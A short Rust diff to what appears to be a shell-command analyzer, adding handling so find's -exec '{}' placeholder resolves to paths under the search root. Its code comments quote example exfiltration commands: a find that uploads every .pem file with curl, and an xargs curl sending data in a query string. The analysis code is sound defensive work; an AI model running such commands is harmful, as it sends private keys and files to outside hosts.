@@ -811,6 +811,26 @@ impl<'c, 'r, 's> Walker<'c, 'r, 's> {
         if let Some(mut inner) = inner
             && !inner.is_empty()
         {
+            // `find / -name '*.pem' -exec curl -F f=@{} URL \;`: `{}` is each file found under
+            // find's starting point.
+            if name == "find"
+                && let Some(start) = words[1..]
+                    .iter()
+                    .take_while(|w| w.text().is_some_and(|t| !t.starts_with(['-', '(', '!'])))
+                    .find_map(|w| match &w.value {
+                        Value::Str(t) => Some(t.clone()),
+                        _ => None,
+                    })
+            {
+                let under = format!("{}/{{}}", start.trim_end_matches('/'));
+                for word in inner.iter_mut().skip(1) {
+                    if let Value::Str(text) = &word.value
+                        && text.contains("{}")
+                    {
+                        word.value = Value::Str(text.replace("{}", &under));
+                    }
+                }
+            }
             // `... | xargs -I{} curl "https://h/?d={}"`: xargs makes the command's arguments from
             // its standard input (where the placeholder is, or after the words given).
             if name == "xargs" && !pipe.stdin.is_empty() {
